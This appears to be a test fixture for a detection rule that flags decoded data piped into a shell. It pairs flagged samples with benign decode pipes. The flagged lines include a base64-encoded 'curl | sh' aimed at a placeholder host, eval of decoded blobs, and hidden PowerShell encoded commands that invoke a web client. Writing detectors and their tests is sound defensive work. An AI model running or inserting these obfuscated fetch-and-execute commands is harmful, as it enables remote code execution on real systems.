#!/bin/sh
# ruleid: generic-decode-pipe-shell
echo "Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkIHwgc2gK" | base64 -d | sh
# ruleid: generic-decode-pipe-shell
eval "$(echo "$BLOB" | base64 --decode)"
# ruleid: generic-decode-pipe-shell
bash -c "$(printf %s "$P" | xxd -r -p)"
# ok: generic-decode-pipe-shell
echo "$CERT_B64" | base64 -d > /etc/ssl/certs/internal.pem
# ok: generic-decode-pipe-shell
base64 -d secrets.b64 | gpg --import
# ok: generic-decode-pipe-shell
gunzip -c backup.sql.gz | psql "$DATABASE_URL"
# ruleid: generic-decode-pipe-shell
powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
# ok: generic-decode-pipe-shell
pwsh -NoProfile -File ./build.ps1 -Configuration Release
# ruleid: generic-decode-pipe-shell
python3 -c "import subprocess; subprocess.Popen(['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'])"
